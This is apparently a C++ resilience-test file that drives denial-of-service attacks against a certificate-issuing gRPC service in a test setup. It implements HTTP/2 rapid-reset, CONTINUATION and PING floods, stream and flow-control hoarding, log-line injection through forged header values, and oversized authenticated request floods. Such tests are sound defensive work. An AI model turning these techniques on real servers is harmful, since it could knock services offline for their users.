#include "tests/attacks/storm_attackers.h"

#include <memory>
#include <random>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "certwright/issuer/v1/certificate.pb.h"
#include "tests/attacks/log_lines.h"
#include "tests/harness/process.h"

namespace certwright::attacks {
namespace {

constexpr char kNamespace[] = "team-a";
constexpr char kCertificates[] = "/certwright.issuer.v1.CertificateService/";
// After which an attacker tries something else.
constexpr absl::Duration kTurn = absl::Seconds(2);
constexpr std::size_t kAtOnce = 50;

void RapidReset(Http2Attacker& attacker) {
  const std::string block = HeaderBlock(CallHeaders(kHealthCheck));
  for (int round = 0; round < 10; ++round) {
    std::string bytes;
    for (std::size_t i = 0; i < kAtOnce; ++i) {
      const uint32_t stream = attacker.NextStream();
      bytes += Serialize({FrameType::kHeaders, kEndHeaders, stream, block});
      bytes += Serialize({FrameType::kRstStream, 0, stream, Number32(8)});
    }
    if (!attacker.Send(bytes).ok()) return;
  }
}

// Messages that are begun and not ended.
void HoardMessages(Http2Attacker& attacker) {
  const std::string message = GrpcMessage(std::string(1 << 20, 'x'), 4 << 20);
  std::vector<std::pair<uint32_t, absl::string_view>> streams;
  for (std::size_t i = 0; i < kAtOnce; ++i) {
    const auto stream = attacker.StartStream(
        CallHeaders(absl::StrCat(kCertificates, "CreateCertificate")), false);
    if (!stream.ok()) return;
    streams.emplace_back(*stream, message);
  }
  const absl::Time end = absl::Now() + kTurn;
  while (absl::Now() < end) {
    for (auto& [stream, left] : streams) {
      if (!attacker.response(stream).ended && !attacker.SendData(stream, left).ok()) return;
    }
    if (absl::IsUnavailable(attacker.Pump(absl::Milliseconds(20)))) return;
  }
}

void FloodContinuations(Http2Attacker& attacker) {
  if (!attacker
           .Send({FrameType::kHeaders, 0, attacker.NextStream(),
                  HeaderBlock(CallHeaders(kHealthCheck))})
           .ok()) {
    return;
  }
  const Frame piece{FrameType::kContinuation, 0, 1, Literal("x", std::string(16'000, 'x'))};
  for (int i = 0; i < 100; ++i) {
    if (!attacker.Send(piece).ok()) return;
  }
}

void FloodPings(Http2Attacker& attacker) {
  std::string pings;
  for (int i = 0; i < 1000; ++i) pings += Serialize({FrameType::kPing, 0, 0, "12345678"});
  for (int i = 0; i < 10; ++i) {
    if (!attacker.Send(pings).ok()) return;
  }
}

void ForgeLines(Http2Attacker& attacker, Tally& tally) {
  for (const char* name :
       {"te", "grpclb_client_stats", "user-agent", "grpc-timeout", "content-type", "x-bin"}) {
    tally.Count(
        attacker.Call(kHealthCheck, {{name, absl::StrCat("x", ForgedLine())}}, "", kTurn));
    if (attacker.closed()) return;
  }
}

// Many calls at once, and then their answers.
void CallAll(Http2Attacker& attacker, const std::string& method, const Headers& credentials,
             const std::vector<std::string>& messages, Tally& tally) {
  Headers headers = CallHeaders(absl::StrCat(kCertificates, method));
  headers.insert(headers.end(), credentials.begin(), credentials.end());
  std::vector<uint32_t> streams;
  for (const std::string& message : messages) {
    const auto stream = attacker.StartStream(headers, false);
    if (!stream.ok()) break;
    const std::string framed = GrpcMessage(message);
    absl::string_view left = framed;
    const absl::Time end = absl::Now() + kTurn;
    while (!left.empty() && absl::Now() < end && attacker.SendData(*stream, left).ok()) {
      if (!left.empty() && absl::IsUnavailable(attacker.Pump(absl::Milliseconds(20)))) break;
    }
    attacker.Send({FrameType::kData, kEndStream, *stream}).IgnoreError();
    streams.push_back(*stream);
  }
  const absl::Time end = absl::Now() + 2 * kTurn;
  for (const uint32_t stream : streams) {
    tally.Count(attacker.WaitFor(stream, end - absl::Now()));
    attacker.Forget(stream);
  }
}

issuer::v1::Certificate MakeCertificate(const std::string& name, const std::string& issuer) {
  issuer::v1::Certificate certificate;
  certificate.mutable_metadata()->set_namespace_(kNamespace);
  certificate.mutable_metadata()->set_name(name);
  (*certificate.mutable_metadata()->mutable_annotations())["note"] = std::string(20'000, 'x');
  issuer::v1::CertificateSpec& spec = *certificate.mutable_spec();
  spec.set_secret_name(name + "-tls");
  spec.mutable_issuer_ref()->set_name(issuer);
  spec.mutable_issuer_ref()->set_kind(meta::v1::ISSUER_KIND_CLUSTER_ISSUER);
  spec.add_dns_names(absl::StrCat(name, ".attack.test"));
  return certificate;
}

}  // namespace

void Tally::Count(const absl::StatusOr<Response>& outcome) {
  std::string name = "closed";
  if (absl::IsDeadlineExceeded(outcome.status())) name = "no answer";
  if (outcome.ok()) {
    const std::optional<int> code = outcome->grpc_status();
    name = code.has_value() ? absl::StatusCodeToString(static_cast<absl::StatusCode>(*code))
           : outcome->reset.has_value() ? "reset"
                                        : "no status";
  }
  base::MutexLock lock(mutex_);
  ++counts_[name];
}

std::map<std::string, int64_t> Tally::counts() const {
  base::MutexLock lock(mutex_);
  return counts_;
}

void AttackAsStranger(const std::vector<Target>& targets, uint64_t seed, Tally& tally,
                      const std::stop_token& stop) {
  std::mt19937_64 random(seed);
  while (!stop.stop_requested()) {
    const Target& target = targets[random() % targets.size()];
    if (random() % 8 == 0) {
      // TLS where there is none, or none where there should be.
      Target plain = target;
      plain.tls = nullptr;
      const auto connection = Connection::Open(plain);
      if (connection.ok()) (*connection)->Send(ForgedLine()).IgnoreError();
      continue;
    }
    const auto attacker = Http2Attacker::Connect(target);
    if (!attacker.ok()) {
      tally.Count(attacker.status());
      harness::Pause();
      continue;
    }
    switch (random() % 6) {
      case 0:
        RapidReset(**attacker);
        break;
      case 1:
        HoardMessages(**attacker);
        break;
      case 2:
        FloodContinuations(**attacker);
        break;
      case 3:
        FloodPings(**attacker);
        break;
      case 4:
        ForgeLines(**attacker, tally);
        break;
      default:
        CallAll(**attacker, "CreateCertificate", {}, std::vector<std::string>(kAtOnce, "x"),
                tally);
    }
  }
}

void FloodAsRequester(const Target& issuer_service, const Headers& credentials,
                      const std::string& issuer, uint64_t seed, Tally& tally,
                      const std::stop_token& stop) {
  std::unique_ptr<Http2Attacker> attacker;
  for (int round = 0; !stop.stop_requested(); ++round) {
    if (attacker == nullptr || attacker->closed() || attacker->going_away().has_value()) {
      auto connected = Http2Attacker::Connect(issuer_service);
      if (!connected.ok()) {
        tally.Count(connected.status());
        harness::Pause();
        continue;
      }
      attacker = *std::move(connected);
    }
    std::vector<std::string> creates;
    std::vector<std::string> updates;
    for (std::size_t i = 0; i < kAtOnce / 2; ++i) {
      const auto certificate =
          MakeCertificate(absl::StrCat("a", seed, "-", round, "-", i), issuer);
      issuer::v1::CreateCertificateRequest create;
      *create.mutable_certificate() = certificate;
      creates.push_back(create.SerializeAsString());
      issuer::v1::UpdateCertificateRequest update;
      *update.mutable_certificate() = certificate;
      (*update.mutable_certificate()->mutable_metadata()->mutable_annotations())["note"] =
          std::string(20'000, 'y');
      updates.push_back(update.SerializeAsString());
    }
    issuer::v1::ListCertificatesRequest list;
    list.set_namespace_(kNamespace);
    list.set_page_size(1000);
    CallAll(*attacker, "CreateCertificate", credentials, creates, tally);
    CallAll(*attacker, "UpdateCertificate", credentials, updates, tally);
    CallAll(*attacker, "ListCertificates", credentials,
            std::vector<std::string>(4, list.SerializeAsString()), tally);
  }
}

void HoardAsRequester(const Target& issuer_service, const Headers& credentials, Tally& tally,
                      const std::stop_token& stop) {
  issuer::v1::WatchCertificatesRequest watch;
  watch.set_namespace_(kNamespace);
  issuer::v1::ListCertificatesRequest list;
  list.set_namespace_(kNamespace);
  list.set_page_size(1000);
  while (!stop.stop_requested()) {
    // Streams get a window of nothing, or of little.
    const auto attacker = Http2Attacker::Connect(
        issuer_service, {.settings = {{kInitialWindowSize, 100}}, .give_windows = false});
    if (!attacker.ok()) {
      tally.Count(attacker.status());
      harness::Pause();
      continue;
    }
    for (std::size_t i = 0; i < kAtOnce; ++i) {
      const bool watches = i % 2 == 0;
      Headers headers =
          CallHeaders(absl::StrCat(kCertificates, watches ? "Watch" : "List", "Certificates"));
      headers.insert(headers.end(), credentials.begin(), credentials.end());
      (*attacker)
          ->StartCall(headers, watches ? watch.SerializeAsString() : list.SerializeAsString())
          .IgnoreError();
    }
    (*attacker)->PumpUntil([&stop] { return stop.stop_requested(); }, 5 * kTurn);
  }
}

}  // namespace certwright::attacks
